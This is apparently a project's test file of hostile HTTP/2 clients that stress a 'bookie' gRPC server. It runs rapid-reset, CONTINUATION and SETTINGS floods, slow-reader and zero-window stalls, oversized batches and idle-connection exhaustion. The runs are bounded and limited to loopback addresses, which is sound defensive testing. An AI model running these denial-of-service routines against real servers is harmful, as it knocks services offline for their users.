"""Hostile HTTP/2 clients of a bookie's gRPC port, each one attack that once knocked a bookie over.

Run as its own process, so that the attacker's CPU is not the legitimate writer's:
`python tests/hostile.py ATTACK HOST:PORT [--ledger N] [--seconds S] [--tls] ...` prints one JSON line
(what the attack achieved: streams opened, bytes sent, the GOAWAY code it got) and exits. Every
loop is bounded in count and in time; the targets are loopback addresses only. With --tls the
attacker speaks TLS and presents no client certificate and no token, as anyone who can reach a
secured port may. The clients are raw frames (tests/h2frames.py) or the `h2`
library, which keeps to flow control as a careful attacker does."""
from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import resource
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack

from h2frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PREFACE, RST_STREAM,
                      SETTING, SETTINGS, SETTINGS_INITIAL_WINDOW_SIZE, U32, WINDOW_UPDATE, frame)
from h2frames import HEADER as FRAME
from pybk import entry
from pybk.proto import pb
from pybk.transport.ngh2_client import split_address

CANCEL = 0x8


async def exchange(client: h2.connection.H2Connection, reader: asyncio.StreamReader,
                   writer: asyncio.StreamWriter, wait: float = 0.1) -> list | None:
    """Send what the h2 client has to send, then feed it what the server sent within `wait`
    seconds: the events that made ([] when nothing came), or None once the connection is gone."""
    writer.write(client.data_to_send())
    try:
        await writer.drain()
        data = await asyncio.wait_for(reader.read(1 << 20), wait)
    except asyncio.TimeoutError:
        return []
    except (ConnectionError, ssl.SSLError):
        return None
    return client.receive_data(data) if data else None


def tls_context() -> ssl.SSLContext:
    """A TLS client that offers h2 and presents no certificate (nor checks the server's)."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


async def open_connection(address: str, tls: bool = False) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A connection to the bookie's gRPC port, over TLS (tls_context) if asked."""
    host, port = split_address(address)
    return await asyncio.open_connection(host, port, ssl=tls_context() if tls else None)


ADD = "/pybk.Bookie/Add"
READ = "/pybk.Bookie/Read"
ENHANCE_YOUR_CALM = 0xB
NICE = -10  # when permitted (root): ahead of other tests' processes, behind the favoured bookie


def headers(path: str, tls: bool = False) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "https" if tls else "http"), (":path", path), (":authority", "bookie"),
            ("content-type", "application/grpc"), ("te", "trailers")]


def grpc_message(message: bytes) -> bytes:
    return b"\x00" + U32.pack(len(message)) + message


class Raw:
    """A connection written frame by frame; `watch()` reads what the server sends in the background,
    acknowledging its SETTINGS, and keeps the code of its GOAWAY, the DATA bytes each stream got
    and which streams ended."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, tls: bool = False):
        self.reader, self.writer, self.tls = reader, writer, tls
        self.encoder = hpack.Encoder()
        self.goaway: int | None = None
        self.why = ""
        self.closed = False
        self.got: dict[int, int] = {}    # DATA bytes received, by stream
        self.ended: set[int] = set()     # streams the server ended (END_STREAM or RST_STREAM)
        self.endings: dict[str, int] = {}  # how: grpc-status or RST_STREAM code, how many
        self.decoder = hpack.Decoder()
        self.settled = asyncio.Event()   # the server's SETTINGS arrived and were acknowledged
        self._watch = asyncio.ensure_future(self._read())

    @classmethod
    async def connect(cls, address: str, settings: bytes = b"", tls: bool = False) -> "Raw":
        raw = cls(*await open_connection(address, tls), tls=tls)
        raw.writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
        return raw

    def open(self, stream: int, path: str, end: bool = False) -> bytes:
        flags = END_HEADERS | (END_STREAM if end else 0)
        return frame(HEADERS, flags, stream, self.encoder.encode(headers(path, self.tls)))

    async def _read(self) -> None:
        try:
            while True:
                head = await self.reader.readexactly(9)
                hi, lo, ftype, flags, stream = FRAME.unpack(head)
                payload = await self.reader.readexactly((hi << 16) | lo)
                if ftype == DATA:
                    self.got[stream] = self.got.get(stream, 0) + len(payload)
                if ftype == HEADERS:
                    block = dict(self.decoder.decode(bytes(payload)))  # every block, to keep HPACK's table
                    if flags & END_STREAM:
                        self._ended(stream, f"grpc-status {block.get('grpc-status', '?')}")
                elif ftype == DATA and flags & END_STREAM:
                    self._ended(stream, "END_STREAM")
                elif ftype == RST_STREAM:
                    self._ended(stream, f"RST_STREAM {U32.unpack(payload)[0]:#x}")
                if ftype == SETTINGS and not flags & ACK:
                    self.writer.write(frame(SETTINGS, ACK, 0))
                    self.settled.set()
                elif ftype == GOAWAY:
                    self.goaway = struct.unpack_from(">II", payload)[1]
                    self.why = bytes(payload[8:]).decode(errors="replace")
        except (asyncio.IncompleteReadError, ConnectionError, ssl.SSLError):
            self.closed = True

    def _ended(self, stream: int, how: str) -> None:
        if stream not in self.ended:
            self.ended.add(stream)
            self.endings[how] = self.endings.get(how, 0) + 1

    async def send(self, data: bytes) -> bool:
        """Write and drain; False once the server closed the connection."""
        if self.closed or self.writer.is_closing():
            return False
        self.writer.write(data)
        try:
            await self.writer.drain()
        except (ConnectionError, ssl.SSLError):
            self.closed = True
        await asyncio.sleep(0)  # drain() does not yield while the buffer is low: let the reader read
        return not self.closed

    def close(self) -> None:
        self._watch.cancel()
        self.writer.close()


async def half_sent_messages(address: str, streams: int = 300, seconds: float = 20, tls: bool = False, **_) -> dict:
    """Streams that each announce a message of `size` bytes (just under the bookie's limit) and
    send all of it but its last KiB, keeping to flow control, for as long as they get credit."""
    size = 8 * 1024 * 1024
    reader, writer = await open_connection(address, tls)
    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    client.initiate_connection()
    ids = [1 + 2 * i for i in range(streams)]
    for s in ids:
        client.send_headers(s, headers(ADD, tls))
        client.send_data(s, b"\x00" + U32.pack(size))
    left = {s: size - 1024 for s in ids}
    writer.write(client.data_to_send())
    loop = asyncio.get_running_loop()
    deadline, sent, goaway = loop.time() + seconds, 0, None
    chunk = b"m" * 16_384
    while loop.time() < deadline and goaway is None:
        for s in ids:
            room = min(client.local_flow_control_window(s), left[s], len(chunk))
            if room > 0:
                client.send_data(s, chunk[:room])
                left[s] -= room
                sent += room
        events = await exchange(client, reader, writer)
        if events is None:
            break
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                goaway = event.error_code
        writer.write(client.data_to_send())
    writer.close()
    return {"sent": sent, "goaway": goaway}


def _read_request(ledger: int) -> bytes:
    """A Read of every entry of `ledger` (the stream ends at the first one missing)."""
    return grpc_message(pb.ReadRequest(ledger_id=ledger, first_entry=0, last_entry=1_000_000).SerializeToString())


async def unread_answers(address: str, ledger: int, connections: int = 2, streams: int = 1000,
                         seconds: float = 20, window: int = 0, tls: bool = False, **_) -> dict:
    """Read streams for a ledger's entries on connections that give the bookie a stream window of
    `window` bytes and never read their socket: the answers can only pile up in the bookie."""
    request = _read_request(ledger)
    raws = [await Raw.connect(address, SETTING.pack(SETTINGS_INITIAL_WINDOW_SIZE, window), tls)
            for _ in range(connections)]
    opened = 0
    for raw in raws:
        if window:
            raw._watch.cancel()  # never read the socket at all
        for i in range(streams):
            stream = 1 + 2 * i
            if not await raw.send(raw.open(stream, READ) + frame(DATA, END_STREAM, stream, request)):
                break
            opened += 1
    await asyncio.sleep(seconds)
    goaways = [raw.goaway for raw in raws]
    for raw in raws:
        raw.close()
    return {"streams": opened, "goaway": next((g for g in goaways if g is not None), None)}


async def slow_readers(address: str, ledger: int, connections: int = 4, streams: int = 400,
                       rate: int = 64 * 1024, seconds: float = 20, tls: bool = False, **_) -> dict:
    """`streams` Read streams of a ledger's entries, spread over `connections`, whose client takes
    their answers at `rate` bytes a second in all: its windows are given back (WINDOW_UPDATE, on
    each stream and on the connection) ten times a second for no more than that. A quarter of
    the streams are cancelled halfway through. The bookie must hold what waits for the windows
    to a bound, however much it could read ahead for so many streams."""
    request = _read_request(ledger)
    raws = [await Raw.connect(address, SETTING.pack(SETTINGS_INITIAL_WINDOW_SIZE, 16_384), tls)
            for _ in range(connections)]
    per = streams // connections
    opened = 0
    for raw in raws:
        batch = b"".join(raw.open(1 + 2 * i, READ) + frame(DATA, END_STREAM, 1 + 2 * i, request) for i in range(per))
        if await raw.send(batch):
            opened += per
    taken = [dict.fromkeys((1 + 2 * i for i in range(per)), 0) for _ in raws]
    tick = 0.1
    budget = int(rate * tick / connections)
    loop = asyncio.get_running_loop()
    started = loop.time()
    deadline, halfway, cancelled, delivered = started + seconds, started + seconds / 2, 0, 0
    while loop.time() < deadline and not all(raw.closed for raw in raws):
        await asyncio.sleep(tick)
        for raw, done in zip(raws, taken):
            left, updates = budget, []
            for stream, n in done.items():
                owed = min(raw.got.get(stream, 0) - n, left)
                if owed > 0:
                    done[stream] += owed
                    left -= owed
                    if stream not in raw.ended:
                        updates.append(frame(WINDOW_UPDATE, 0, stream, U32.pack(owed)))
                if not left:
                    break
            if left < budget:
                delivered += budget - left
                updates.append(frame(WINDOW_UPDATE, 0, 0, U32.pack(budget - left)))
                await raw.send(b"".join(updates))
        if halfway and loop.time() >= halfway:
            halfway = 0
            for raw, done in zip(raws, taken):
                doomed = [s for s in list(done)[::4] if s not in raw.ended]
                if await raw.send(b"".join(frame(RST_STREAM, 0, s, U32.pack(CANCEL)) for s in doomed)):
                    cancelled += len(doomed)
    goaways = [raw.goaway for raw in raws]
    endings: dict[str, int] = {}
    for raw in raws:
        raw.close()
        for how, n in raw.endings.items():
            endings[how] = endings.get(how, 0) + n
    return {"streams": opened, "cancelled": cancelled, "ended_by_bookie": endings, "delivered": delivered,
            "goaway": next((g for g in goaways if g is not None), None)}


async def settings_flood(address: str, streams: int = 1000, frames: int = 150, seconds: float = 20,
                         tls: bool = False, **_) -> dict:
    """SETTINGS frames of 2,730 INITIAL_WINDOW_SIZE entries each while `streams` calls are open."""
    raw = await Raw.connect(address, tls=tls)
    await raw.send(b"".join(raw.open(1 + 2 * i, ADD) for i in range(streams)))
    entries = b"".join(SETTING.pack(SETTINGS_INITIAL_WINDOW_SIZE, 65_535 + (i % 2)) for i in range(2730))
    sent, deadline = 0, time.monotonic() + seconds
    while sent < frames and time.monotonic() < deadline and await raw.send(frame(SETTINGS, 0, 0, entries)):
        sent += 1
    await _wait_goaway(raw, deadline)
    raw.close()
    return {"frames": sent, "goaway": raw.goaway}


async def rapid_reset(address: str, streams: int = 50_000, seconds: float = 20, tls: bool = False, **_) -> dict:
    """Streams opened and reset at once (HEADERS then RST_STREAM CANCEL), as fast as it can."""
    raw = await Raw.connect(address, tls=tls)
    sent, deadline, stream = 0, time.monotonic() + seconds, 1
    while sent < streams and time.monotonic() < deadline and raw.goaway is None:
        batch = []
        for _ in range(100):
            batch.append(raw.open(stream, ADD) + frame(RST_STREAM, 0, stream, U32.pack(CANCEL)))
            stream += 2
        if not await raw.send(b"".join(batch)):
            break
        sent += 100
    await _wait_goaway(raw, deadline)
    raw.close()
    return {"streams": sent, "goaway": raw.goaway, "closed": raw.closed}


async def empty_continuations(address: str, frames: int = 1_000_000, seconds: float = 20, tls: bool = False,
                              **_) -> dict:
    """A HEADERS frame without END_HEADERS, then empty CONTINUATION frames without end."""
    raw = await Raw.connect(address, tls=tls)
    await asyncio.wait_for(raw.settled.wait(), seconds)  # no SETTINGS ACK inside the header block
    block = raw.encoder.encode(headers(ADD, tls))
    await raw.send(frame(HEADERS, 0, 1, block))
    empty = frame(CONTINUATION, 0, 1, b"") * 1000
    sent, deadline = 0, time.monotonic() + seconds
    while sent < frames and time.monotonic() < deadline and raw.goaway is None and await raw.send(empty):
        sent += 1000
    await _wait_goaway(raw, deadline)
    raw.close()
    return {"frames": sent, "goaway": raw.goaway, "why": raw.why}


async def unknown_ledger_adds(address: str, ledger: int, batches: int = 100, seconds: float = 60,
                              tls: bool = False, **_) -> dict:
    """`batches` Add streams on one connection, each sending one AddBatch of 8 MB (eight entries
    of 1 MB) for a ledger that does not exist (ids from `ledger` up), keeping to flow control:
    each batch must be answered, with an error, while the bookie holds a bounded number of them."""
    body = b"u" * (1000 * 1000 - 64)
    reader, writer = await open_connection(address, tls)
    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    client.initiate_connection()
    outgoing: dict[int, memoryview] = {}
    for i in range(batches):
        lid, stream = ledger + i, 1 + 2 * i
        batch = pb.AddBatch(entries=[pb.AddEntry(request_id=e, ledger_id=lid, entry_id=e, master_key=b"k" * 20,
                                                 body=entry.encode(lid, e, e - 1, body)) for e in range(8)])
        client.send_headers(stream, headers(ADD, tls))
        outgoing[stream] = memoryview(grpc_message(batch.SerializeToString()))
    writer.write(client.data_to_send())
    answers: dict[int, bytearray] = {}
    statuses: dict[str, int] = {}
    answered: set[int] = set()
    loop = asyncio.get_running_loop()
    deadline, sent, goaway = loop.time() + seconds, 0, None
    while loop.time() < deadline and goaway is None and len(answered) < batches:
        for stream, rest in list(outgoing.items()):
            room = min(client.local_flow_control_window(stream), len(rest), client.max_outbound_frame_size)
            while room > 0:
                client.send_data(stream, rest[:room].tobytes(), end_stream=room == len(rest))
                rest, sent = rest[room:], sent + room
                room = min(client.local_flow_control_window(stream), len(rest), client.max_outbound_frame_size)
            if rest:
                outgoing[stream] = rest
            else:
                del outgoing[stream]
        events = await exchange(client, reader, writer)
        if events is None:
            break
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                goaway = event.error_code
            elif isinstance(event, h2.events.DataReceived):
                client.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                answers.setdefault(event.stream_id, bytearray()).extend(event.data)
                buffered = answers[event.stream_id]
                if len(buffered) >= 5 and len(buffered) >= 5 + U32.unpack_from(buffered, 1)[0]:
                    results = pb.AddResults.FromString(bytes(buffered[5:5 + U32.unpack_from(buffered, 1)[0]]))
                    for r in results.results:
                        name = pb.Status.Name(r.status)
                        statuses[name] = statuses.get(name, 0) + 1
                    answered.add(event.stream_id)
            elif isinstance(event, h2.events.StreamReset):
                answered.add(event.stream_id)
                statuses["RST_STREAM"] = statuses.get("RST_STREAM", 0) + 1
        writer.write(client.data_to_send())
    writer.close()
    return {"batches": batches, "answered": len(answered), "statuses": statuses, "sent": sent, "goaway": goaway}


async def idle_connections(address: str, connections: int = 20_000, seconds: float = 20, per_host: int = 500,
                           tls: bool = False, **_) -> dict:
    """As many idle connections as `connections` (or as this process's open-files hard limit
    allows), `per_host` from each loopback address from 127.0.1.1 on, each sending the HTTP/2
    preface and SETTINGS (or, with TLS, only its handshake) and then nothing, held `seconds`.
    Says how many the bookie still held at the end, how many it reset or closed (refused), and
    how many could not connect (failed, by exception)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY and soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    nofile = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
    attempted = min(connections, nofile - 64)
    host, port = split_address(address)
    loop = asyncio.get_running_loop()
    socks: list[socket.socket] = []
    failed: dict[str, int] = {}
    reset = 0   # reset by the bookie as soon as it accepted them (before or as the preface went)
    gate = asyncio.Semaphore(256)
    hello = PREFACE + frame(SETTINGS, 0, 0)

    async def one(i: int) -> None:
        nonlocal reset
        n = i // per_host
        source = f"127.0.{1 + n // 250}.{1 + n % 250}"
        s = socket.socket()
        s.setblocking(False)
        async with gate:
            try:
                s.bind((source, 0))
                await asyncio.wait_for(loop.sock_connect(s, (host, port)), 5)
                if not tls:
                    s.send(hello)
            except (ConnectionResetError, BrokenPipeError):
                s.close()
                reset += 1
                return
            except (OSError, asyncio.TimeoutError) as exc:
                s.close()
                why = type(exc).__name__
                failed[why] = failed.get(why, 0) + 1
                return
        socks.append(s)

    started = time.monotonic()
    for first in range(0, attempted, 1000):
        await asyncio.gather(*(one(i) for i in range(first, min(first + 1000, attempted))))
    opened_in = time.monotonic() - started
    await hold(max(0.0, seconds - opened_in))
    closed = sum(map(_closed_by_peer, socks))
    for s in socks:
        s.close()
    return {"nofile": nofile, "attempted": attempted, "connected": len(socks), "failed": sum(failed.values()),
            "failures": failed,
            "refused": reset + closed, "held": len(socks) - closed, "opened_in_s": round(opened_in, 1), "goaway": None}


async def hold(seconds: float) -> None:
    """Wait `seconds`, or less once standard input ends: the test closes it when it has seen what
    it came for, so an attack is held no longer than it is watched."""
    loop = asyncio.get_running_loop()
    stdin = asyncio.StreamReader()
    transport, _ = await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(stdin), sys.stdin)
    try:
        await asyncio.wait_for(stdin.read(), seconds)
    except asyncio.TimeoutError:
        pass
    finally:
        transport.close()


def _closed_by_peer(s: socket.socket) -> bool:
    """Whether the bookie ended this connection (EOF or a reset), reading what it sent."""
    try:
        for _ in range(64):
            if not s.recv(65536):
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True
    return False


async def _wait_goaway(raw: Raw, deadline: float) -> None:
    while raw.goaway is None and not raw.closed and time.monotonic() < deadline:
        await asyncio.sleep(0.05)


ATTACKS = {f.__name__: f for f in (half_sent_messages, unread_answers, slow_readers, settings_flood, rapid_reset,
                                   empty_continuations, unknown_ledger_adds, idle_connections)}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("address")
    parser.add_argument("--ledger", type=int, default=1)
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("--window", type=int, default=0)
    parser.add_argument("--connections", type=int)
    parser.add_argument("--tls", action="store_true", help="speak TLS, presenting no client certificate")
    args = parser.parse_args()
    host = split_address(args.address)[0]
    if not (host.startswith("127.") or host in ("localhost", "::1")):
        sys.exit(f"{args.address}: attacks run against loopback addresses only")
    kwargs = {"ledger": args.ledger, "seconds": args.seconds, "tls": args.tls}
    if args.attack == "unread_answers":
        kwargs["window"] = args.window
    if args.connections is not None:
        kwargs["connections"] = args.connections
    # an attacker would be another host with cores of its own: here it shares the test's, so it
    # runs ahead of other tests' processes, and behind the bookie and the writer, which the test
    # runs in real time (procfs.favoured): what it measures is the bookie's work per attack
    with contextlib.suppress(PermissionError):
        os.setpriority(os.PRIO_PROCESS, 0, NICE)
    print(json.dumps(asyncio.run(ATTACKS[args.attack](args.address, **kwargs))))


if __name__ == "__main__":
    main()
